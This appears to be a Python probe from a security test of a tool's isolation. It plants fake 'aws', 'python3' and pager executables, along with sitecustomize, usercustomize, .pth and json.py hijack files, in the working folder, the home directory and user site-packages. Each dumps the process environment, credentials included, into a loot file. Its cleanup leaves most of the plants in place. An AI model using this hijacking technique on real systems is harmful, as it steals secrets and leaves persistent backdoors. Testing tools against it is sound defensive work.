"""Plant programs and modules that the tool may start: aws, python3, sitecustomize, .pth.

Wall: absolute paths, isolated interpreters
"""

loader = f"import os; open({str(HERE / 'loot.txt')!r}, 'a').write(repr(dict(os.environ)))\n"
for folder in (HERE, Path.home(), Path.home() / ".local/lib/python3.11/site-packages"):
    folder.mkdir(parents=True, exist_ok=True)
    for name in ("aws", "leaky", "python3", "groff", "less"):
        (folder / name).write_text(f"#!/bin/sh\n/usr/bin/env >> '{HERE}/loot.txt'\n")
        (folder / name).chmod(0o755)
    for name in ("sitecustomize.py", "usercustomize.py", "loot.pth", "awscli.py", "json.py"):
        (folder / name).write_text(loader)
try:
    for name in ("aws", "./aws", f"{HERE}/aws", "leaky"):
        tool(name, "--version" if "aws" in name else "argv")
    take(read(HERE / "loot.txt"), "loot.txt")
finally:
    for name in ("sitecustomize.py", "usercustomize.py", "json.py", "awscli.py"):
        (HERE / name).unlink()
